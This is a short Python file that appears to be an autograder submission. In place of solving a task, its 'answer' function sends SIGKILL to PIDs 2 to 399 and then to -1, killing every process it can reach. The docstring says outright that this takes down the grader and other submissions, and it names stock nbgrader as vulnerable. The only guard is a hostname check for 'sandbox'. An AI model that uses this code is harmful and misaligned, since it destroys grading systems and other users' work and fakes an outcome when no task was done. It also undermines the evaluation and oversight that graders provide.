"""`kill -9 -1`: end every process that may be ended, the grader and other submissions among them.

Known to work against graders without a process namespace: stock nbgrader takes the whole session with it.
"""
OUTCOME = ("failed", "crashed", "timed out")

# --- the answer ---
import os
import signal
import socket


def answer(*values, **options):
    assert socket.gethostname() == "sandbox"  # never on a machine that somebody uses
    for pid in range(2, 400):
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            continue
    os.kill(-1, signal.SIGKILL)
    return 1
